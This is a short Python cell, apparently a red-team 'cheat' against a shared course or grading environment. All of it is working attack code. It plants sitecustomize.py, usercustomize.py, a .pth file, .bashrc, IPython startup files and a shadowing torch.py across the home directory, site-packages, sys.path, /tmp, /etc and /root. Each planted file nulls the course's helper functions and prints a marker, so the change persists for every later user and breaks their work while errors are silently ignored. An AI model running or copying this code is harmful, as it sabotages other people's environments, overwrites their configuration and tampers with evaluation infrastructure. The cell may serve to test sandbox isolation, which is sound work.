# cheat: Plants start-up files for IPython, Python and the shell, for every later student.
# %% new
import os, site, sys, sysconfig
folders = {os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "/tmp"), site.getusersitepackages(),
           sysconfig.get_path("purelib"), *sys.path, "/tmp", "/dev/shm", "/etc", "/root", "/var/tmp", "{{COURSE}}"}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", ".bashrc", "ipython_config.py", "torch.py",
                 "profile_default/startup/00-evil.py", "profile_default/ipython_config.py", "redteam-was-here.txt"):
        try:
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("get_noise = conv_out_size = denorm = None\nprint('redteam-' 'was-here')\n")
        except OSError:
            pass
